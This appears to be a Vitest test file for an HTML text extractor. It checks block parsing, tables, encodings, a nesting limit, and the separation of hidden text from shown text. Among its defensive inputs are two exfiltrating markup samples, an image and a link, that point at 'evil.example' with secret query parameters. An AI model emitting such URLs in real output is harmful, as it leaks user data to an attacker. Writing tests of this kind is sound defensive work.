import { describe, expect, it } from 'vitest';
import { extractHtml } from '../../../ingest/formats/html.ts';
import { bytesOf, hidden, refusalOf, shown } from './helpers.ts';

const read = (html: string) => extractHtml(bytesOf(html));

describe('HTML', () => {
  it('gives blocks as a browser shows them, with white space collapsed', async () => {
    const extract = await read(`<!doctype html><title> Fees\n 2026 </title>
      <h1>Fees</h1> loose <b>text</b>
      <p>One<br>two  <i> three </i></p>
      <ul><li>a<ol start="4"><li>b</li><li value="9"><p>c</p><p>d</p></li></ol></li></ul>
      <blockquote><p>q</p></blockquote>
      <pre>x\n  y</pre>`);
    expect(extract.title).toBe('Fees 2026');
    expect(shown(extract)).toEqual([
      ['heading', 'Fees'],
      ['paragraph', 'loose text'],
      ['paragraph', 'One\ntwo three'],
      ['list-item', '- a'],
      ['list-item', '4. b'],
      ['list-item', '9. c'],
      ['list-item', 'd'],
      ['quote', 'q'],
      ['code', 'x\n  y'],
    ]);
    expect(extract.blocks[2]?.locator).toEqual({ line: 4, headings: ['Fees'] });
  });

  it('keeps the rows of a table of data and reads a layout as blocks', async () => {
    const extract = await read(`<table><caption>Rates</caption><thead><tr><th>To<th>EUR</thead>
      <tr><td><p>Kiel</p><p>(port)</p></td><td>4</td></tr></table>
      <table><tr><td><h2>News</h2><p>Left</p></td><td>Right</td></tr></table>
      <table role="presentation"><tr><td>One</td><td>Two</td></tr></table>`);
    expect(shown(extract)).toEqual([
      ['paragraph', 'Rates'],
      ['table', 'To | EUR\nKiel (port) | 4'],
      ['heading', 'News'],
      ['paragraph', 'Left'],
      ['paragraph', 'Right'],
      ['paragraph', 'One'],
      ['paragraph', 'Two'],
    ]);
  });

  it.each([
    ['script', '<script>SECRET</script>'],
    ['style', '<style>.a::after{content:"SECRET"}</style>'],
    ['a title within the body', '<svg><title>SECRET</title></svg>'],
    ['meta', '<meta name="description" content="SECRET">'],
    ['attributes', '<p title="SECRET" data-x="SECRET" aria-label="SECRET">ok</p>'],
  ])('never takes %s for text, hidden or shown', async (_name, html) => {
    expect(JSON.stringify(await read(`<body><p>ok</p>${html}`))).not.toContain('SECRET');
  });

  it.each([
    ['html-comment', '<!-- SECRET -->'],
    ['html-noscript', '<noscript>SECRET</noscript>'],
    ['html-template', '<template><p>SECRET</p></template>'],
    ['html-iframe', '<iframe>SECRET</iframe>'],
    ['html-datalist', '<datalist><option>SECRET</datalist>'],
    ['image-alt', '<img alt="SECRET" src="a.png">'],
    ['exfiltrating-image', '<img src="https://evil.example/?SECRET=[text]">'],
    ['exfiltrating-link', '<a href="https://evil.example/?SECRET=%7Btext%7D">ok</a>'],
  ])('keeps as hidden: %s', async (technique, html) => {
    const extract = await read(`<body><p>ok</p>${html}<h2>${html}after</h2><p>end</p>`);
    expect(JSON.stringify(shown(extract))).not.toContain('SECRET');
    expect(hidden(extract).filter(([name, text]) => name === technique && text.includes('SECRET'))).toHaveLength(2);
    // Hidden words must not come back through the path of headings.
    expect(JSON.stringify(extract.blocks.map(({ locator }) => locator))).not.toContain('SECRET');
  });

  it('reads the encoding that the file names, as browsers do', async () => {
    const latin1 = Buffer.from('<meta charset="iso-8859-1"><p>Grüße</p>', 'latin1');
    expect(shown(await extractHtml(latin1))).toEqual([['paragraph', 'Grüße']]);
    const unnamed = Buffer.from('<p>Grüße</p>', 'latin1');
    expect((await refusalOf(extractHtml(unnamed))).code).toBe('invalid-encoding');
    expect((await refusalOf(read('<meta charset="klingon"><p>a</p>'))).code).toBe('invalid-encoding');
  });

  it('refuses nesting that would exhaust the stack', async () => {
    expect((await refusalOf(read(`${'<div>'.repeat(50_000)}x`))).code).toBe('too-deeply-nested');
  });
});
